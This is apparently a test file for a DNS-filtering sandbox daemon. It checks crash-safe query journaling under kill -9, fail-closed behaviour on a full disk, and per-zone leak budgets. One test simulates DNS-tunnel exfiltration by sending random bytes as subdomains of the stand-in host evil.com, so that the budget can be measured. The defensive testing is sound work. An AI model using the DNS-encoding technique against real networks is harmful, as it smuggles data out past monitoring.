# The record after a sudden death: whatever a client or an upstream got has its row.
import collections
import json
import os
import random
import select
import socket
import subprocess
import threading
import time

import dns_message
from cases import case, equal, holds
from dns_client import ask_udp
from postern_process import OPEN_BUDGETS, Daemon, binary
from private_host import Namespace, fill_disk, in_namespace, sh, temp_folder, wait_until
from recording_upstream import RecordingUpstream

ROUNDS = int(os.environ.get("POSTERN_KILLS", "20"))  # kills; ./dev bench torture says 200
WINDOW = 64         # questions in flight
ZONES = 3000        # ordinary zones asked; a single one with many names would look like a tunnel
BLOCKED_ZONES = 50


class Load:
    """Asks as fast as answers come and counts the answers by name. Thread: its own."""

    def __init__(self, netns, seed, label):
        self.label = label  # first label of the names: one sandbox's in one round, so that each goes upstream once
        self.sock = in_namespace(netns, lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        self.sock.connect(("127.0.0.1", 53))
        self.sock.setblocking(False)
        self.draw = random.Random(seed)
        self.answered = collections.Counter()
        self.total = 0
        self.refused = threading.Event()  # nobody listens any more
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self):
        flying, ident = {}, 0
        while not self.refused.is_set():
            try:
                while len(flying) < WINDOW:
                    ident = (ident + 1) & 0xFFFF
                    if self.draw.random() < 0.2:
                        name = f"www.blocked{self.draw.randrange(BLOCKED_ZONES)}.org"
                    else:
                        name = f"{self.label}.zone{self.draw.randrange(ZONES)}.com"
                    flying[ident] = name
                    self.sock.send(dns_message.query(name, "A", ident, edns=True))
                if not select.select([self.sock], [], [], 1.0)[0]:
                    flying.clear()  # datagrams can be lost; a lost one was not answered
                    continue
                while True:
                    reply = self.sock.recv(4096)
                    name = flying.pop(int.from_bytes(reply[:2], "big"), None)
                    if name and dns_message.decode_name(reply, 12)[0] == name and reply[3] & 15 in (0, 3):
                        self.answered[name] += 1
                        self.total += 1
            except BlockingIOError:
                continue
            except ConnectionRefusedError:
                self.refused.set()


@case("kill -9 under load leaves a row for each answer a client got and each query an upstream got",
      seconds=60 + 15 * ROUNDS)
def _():
    upstream = RecordingUpstream()
    daemon = Daemon(policy=_policy(), upstream=(upstream.text,), workers=2)
    inside = [Namespace("one"), Namespace("two")]
    draw = random.Random()
    answered, total = {n.name: collections.Counter() for n in inside}, 0
    for round_number in range(ROUNDS):
        for namespace in inside:
            daemon.attach(namespace)
        loads = [Load(namespace.path, draw.random(), f"{namespace.name}{round_number}") for namespace in inside]
        goal = draw.randrange(50, 2000)
        deadline = time.monotonic() + 10
        while sum(load.total for load in loads) < goal and time.monotonic() < deadline:
            time.sleep(0.001)  # the moment of death is drawn, not waited for
        daemon.kill()
        for namespace, load in zip(inside, loads):
            load.thread.join(20)
            answered[namespace.name] += load.answered
            total += load.total
            holds(load.refused.is_set(), "the load did not notice the death")
        daemon.start()
    holds(total > ROUNDS * 50, f"only {total} answers")
    rows = collections.Counter((row["sandbox"], row["name"]) for row in daemon.rows())
    missing = [(box, name, count, rows[box, name])
               for box, names in answered.items() for name, count in names.items()
               if rows[box, name] < count]
    equal(missing[:5], [], f"answers without a row, of {total}")
    forwarded = {seen.name for seen in upstream.queries()}
    unknown = forwarded - {name for _, name in rows}
    equal(sorted(unknown)[:5], [], f"forwarded without a row, of {len(forwarded)}")
    holds(len(forwarded) > ROUNDS * 10, f"only {len(forwarded)} forwarded")
    print(f"{ROUNDS} kills, {total} answers, {len(forwarded)} forwarded, {sum(rows.values())} rows")


def _policy():
    names = "\n".join(f"  - '**.blocked{zone}.org'" for zone in range(BLOCKED_ZONES))
    return f"{OPEN_BUDGETS}block:\n{names}\n"


@case("an outcome that was not written before the death reads unknown, never something else")
def _():
    upstream = RecordingUpstream(behaviour=lambda packet, tcp: [])
    daemon, inside = Daemon(upstream=(upstream.text,)), Namespace("inside")
    daemon.attach(inside)
    try:
        ask_udp("never.example.com", netns=inside.path, timeout=0.3)
        raise AssertionError("an answer without an upstream")
    except TimeoutError:
        pass
    holds(upstream.queries("never.example.com"), "it was not forwarded")
    daemon.kill()
    row = daemon.rows("name = 'never.example.com'")[0]
    equal((row["action"], row["rcode"]), ("allowed", "unknown"), row)


@case("of a killed daemon's record queries has all, and of the sums it is said what they lack")
def _():
    upstream, inside = RecordingUpstream(), Namespace("inside")
    daemon = Daemon(upstream=(upstream.text,))
    sql = lambda *arguments: subprocess.run([binary(), "sql", "--json", "--db", daemon.db, *arguments],
                                            capture_output=True, text=True, timeout=20)
    usage, queries = "SELECT coalesce(sum(queries), 0) AS n FROM usage", "SELECT count(*) AS n FROM queries"
    for asked in range(1, 21):  # until the kill comes before the row is listed, a quarter of a second later
        daemon.attach(inside)
        ask_udp("www.example.com", netns=inside.path)
        daemon.kill()
        left = daemon.read("SELECT count(*) AS n FROM unlisted")[0]["n"]
        if left:
            break
        daemon.start()
    for more in ((), ("--wait",)):
        all_of_it, sums = sql(*more, queries), sql(*more, usage)
        equal((json.loads(all_of_it.stdout), all_of_it.stderr), ([{"n": asked}], ""))
        equal(json.loads(sums.stdout), [{"n": asked - left}])
        holds(daemon.db in sums.stderr and " lack 1 query, for no Postern " in sums.stderr, sums)
    daemon.start()
    wait_until(lambda: (json.loads(sql(usage).stdout), sql(usage).stderr) == ([{"n": asked}], ""), "all listed")


@case("a journal that cannot be written fails closed, forwards nothing, and recovers by itself", seconds=120)
def _():
    upstream = RecordingUpstream()
    inside = Namespace("inside")
    state = os.path.join(temp_folder(), "daemon", "state")
    os.makedirs(state)
    sh("mount", "-t", "tmpfs", "-o", "size=2m", "tmpfs", state)
    daemon = Daemon(policy=OPEN_BUDGETS, upstream=(upstream.text,))
    daemon.attach(inside)
    equal(ask_udp("www.before.com", netns=inside.path).rcode_name, "NOERROR")
    filler = fill_disk(state)
    # Pages that the journal has already may still take rows: ask until it refuses.
    numbers = iter(range(100000))

    def refused():
        reply = ask_udp(f"www.full{next(numbers)}.com", netns=inside.path, timeout=20)
        return reply if reply.rcode == 2 else None
    reply = wait_until(refused, "SERVFAIL on a full disk", seconds=60)
    holds(reply.ede() is not None, "no extended error")
    before = len(upstream.queries())
    for n in range(20):
        reply = ask_udp(f"www.closed{n}.com", netns=inside.path, timeout=20)
        recorded = daemon.rows(f"name = 'www.closed{n}.com'")
        holds(reply.rcode == 2 or recorded, f"closed{n} was answered without a row")
    extra = [s.name for s in upstream.queries()[before:] if not daemon.rows("name = ?", s.name)]
    equal(extra, [], "forwarded without a row")
    os.remove(filler)
    wait_until(lambda: ask_udp("www.after.com", netns=inside.path, timeout=20).rcode == 0, "recovery",
               seconds=30)
    holds(daemon.rows("name = 'www.after.com'"), "no row after recovery")


LEAK_OCTETS_A_NAME = 8
ZONE_BUDGET = 256  # octets, profile `code`


@case("what a session has told a zone stays told: over SIGTERM, kill -9 and attaching again, until a grant",
      seconds=120)
def _():
    upstream = RecordingUpstream()
    daemon, inside = Daemon(policy="on_tunnel: alert\n", upstream=(upstream.text,)), Namespace("mole")
    refused = 0
    for round_number in range(9):
        daemon.attach(inside, session="mole")
        for _ in range(6):
            name = f"{os.urandom(LEAK_OCTETS_A_NAME).hex()}.evil.com"
            refused += ask_udp(name, netns=inside.path).rcode == 3
        if round_number % 3 == 0:
            daemon.command("detach", "--name", "mole")
        elif round_number % 3 == 1:
            daemon.kill()
            daemon.start()
        else:
            equal(daemon.stop(), 0)
            daemon.start()
    arrived = LEAK_OCTETS_A_NAME * len({seen.name for seen in upstream.queries() if seen.name.endswith(".evil.com")})
    holds(ZONE_BUDGET / 4 < arrived <= ZONE_BUDGET, f"{arrived} octets arrived")
    holds(refused > 20, f"{refused} refused")
    daemon.attach(inside, session="mole")
    shown = json.loads(daemon.command("leak", "mole", "--json").stdout)
    zone = next(ledger for ledger in shown[0]["ledgers"] if ledger["name"] == "evil.com")
    holds(75 < zone["percent"] <= 100, zone)
    holds("evil.com" in daemon.command("leak").stdout and "#" in daemon.command("leak").stdout, "the table")
    equal(ask_udp("more.evil.com", netns=inside.path).rcode_name in ("NOERROR", "NXDOMAIN"), True)
    daemon.command("grant", "mole", "64", "--zone", "evil.com")
    name = f"{os.urandom(LEAK_OCTETS_A_NAME).hex()}.evil.com"
    equal(ask_udp(name, netns=inside.path).rcode_name, "NOERROR", "after a grant")
    wrong = daemon.command("grant", "nobody", "64", check=False)
    holds(wrong.returncode != 0 and "nobody" in wrong.stderr, wrong)
    equal([(g["session"], g["zone"], g["octets"]) for g in daemon.read("SELECT * FROM grants ORDER BY id")],
          [("mole", "evil.com", 64)])
    daemon.kill()
    daemon.start()
    daemon.attach(inside, session="mole")
    shown = json.loads(daemon.command("leak", "mole", "--json").stdout)
    budget = next(ledger["budget_bits"] for ledger in shown[0]["ledgers"] if ledger["name"] == "evil.com")
    equal(budget, (ZONE_BUDGET + 64) * 8, "the grant survives")
    print(f"{arrived} octets arrived in 9 rounds, {refused} queries were refused")
